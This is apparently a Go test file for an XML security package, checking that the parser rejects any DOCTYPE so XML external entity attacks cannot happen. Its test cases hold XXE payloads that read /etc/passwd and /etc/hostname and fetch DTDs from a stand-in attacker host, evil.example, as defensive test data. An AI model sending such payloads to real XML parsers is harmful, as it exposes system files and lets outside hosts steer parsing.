package xmlsec

import (
	"errors"
	"strings"
	"testing"
)

// TestXXE: any DOCTYPE is refused before a tree exists, so no external
// entity, parameter entity or DTD fetch can happen here or in any later
// libxml2-based path.
func TestXXE(t *testing.T) {
	tests := []struct{ name, in string }{
		{"system entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`},
		{"parameter entity", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>`},
		{"external dtd", `<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>`},
		{"unused internal subset", `<!DOCTYPE r [<!ELEMENT r ANY>]><r/>`},
		{"doctype in a signed message", strings.Replace(osciMessage(nil), "<soap:Envelope", `<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///etc/hostname">]><soap:Envelope`, 1)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := ParseBytes([]byte(tc.in), DefaultLimits()); !errors.Is(err, ErrDoctype) {
				t.Fatalf("got %v, want %v", err, ErrDoctype)
			}
		})
	}
}
